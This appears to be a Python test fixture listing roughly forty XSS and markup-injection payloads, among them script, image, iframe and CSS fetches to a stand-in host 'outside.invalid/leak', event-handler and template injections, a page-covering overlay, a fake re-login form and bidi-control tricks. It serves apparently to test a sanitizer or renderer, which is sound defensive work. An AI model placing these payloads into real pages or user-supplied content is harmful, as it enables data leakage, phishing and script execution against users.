"""Texts that try to become markup, to fetch, to run or to cover the page."""

from __future__ import annotations

OUTSIDE = "http://outside.invalid/leak"

PAYLOADS = [
    f"![x]({OUTSIDE}?1)",
    f"[![x]({OUTSIDE}?2)]({OUTSIDE})",
    f"![x][r]\n\n[r]: {OUTSIDE}?3",
    f'<img src="{OUTSIDE}?4">',
    "<img src=x onerror=\"window.hacked='img'\">",
    "<script>window.hacked='script'</script>",
    f'<script src="{OUTSIDE}?5"></script>',
    "<svg onload=\"window.hacked='svg'\"></svg>",
    f'<svg><image href="{OUTSIDE}?6"/></svg>',
    f'<svg><use href="{OUTSIDE}?7#a"/></svg>',
    f'<iframe src="{OUTSIDE}?8"></iframe>',
    "<iframe srcdoc=\"<script>parent.hacked='srcdoc'</script>\"></iframe>",
    f'<object data="{OUTSIDE}?9"></object><embed src="{OUTSIDE}?10">',
    f'<video src="{OUTSIDE}?11" autoplay></video><audio src="{OUTSIDE}?12" autoplay></audio>',
    f'<link rel="stylesheet" href="{OUTSIDE}?13"><link rel="prefetch" href="{OUTSIDE}?14">',
    f'<style>@import "{OUTSIDE}?15"; body{{background:url({OUTSIDE}?16)}}</style>',
    f'<div style="background:url({OUTSIDE}?17)">styled</div>',
    '<div style="position:fixed;inset:0;z-index:99999;background:red" id="overlay">over</div>',
    f'<form action="{OUTSIDE}?18"><input name="p"><button>Log in again</button></form>',
    f'<meta http-equiv="refresh" content="0;url={OUTSIDE}?19">',
    f'<base href="{OUTSIDE}?20/">',
    "<a href=\"javascript:window.hacked='href'\">go</a>",
    "[go](javascript:window.hacked='md')",
    f'<a href="{OUTSIDE}?21" target="_top">elsewhere</a>',
    f"<{OUTSIDE}?22>",
    "<details open ontoggle=\"window.hacked='toggle'\">d</details>",
    "<input autofocus onfocus=\"window.hacked='focus'\">",
    "<body onload=\"window.hacked='body'\">",
    "<math><mtext><style><img src=x onerror=\"window.hacked='math'\"></style></mtext></math>",
    '"><img src=x onerror="window.hacked=\'attr\'">',
    "' onmouseover='window.hacked=1' x='",
    "${window.hacked='template'}",
    "`${window.hacked='backtick'}`",
    "{{constructor.constructor('window.hacked=1')()}}",
    "{{#each value}}<img src=x onerror=\"window.hacked='hb'\">{{/each}}",
    "$$\\href{javascript:window.hacked=1}{x}$$ \\(\\includegraphics{" + OUTSIDE + "?23}\\)",
    "```html\n<img src=x onerror=\"window.hacked='fence'\">\n```",
    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;window.hacked=1&#60;/script&#62;",
    '<!--<img src="--><img src=x onerror="window.hacked=\'comment\'">',
    "<noscript><p title=\"</noscript><img src=x onerror=window.hacked='ns'>\">",
    '<portal src="data:text/html,x"></portal><template><script>1</script></template>',
    "\u202egnp.exe\u202c <b onclick=window.hacked=1>bidi</b> \u2066x\u2069 \x1b[31mred\x00",
    '__i18n__{"key":"submit"}<img src=x onerror="window.hacked=\'i18n\'">',
]


def title_of(payload: str) -> str:
    """Put a payload on one line, as a title or a file name would have it."""
    return " ".join(payload.split())
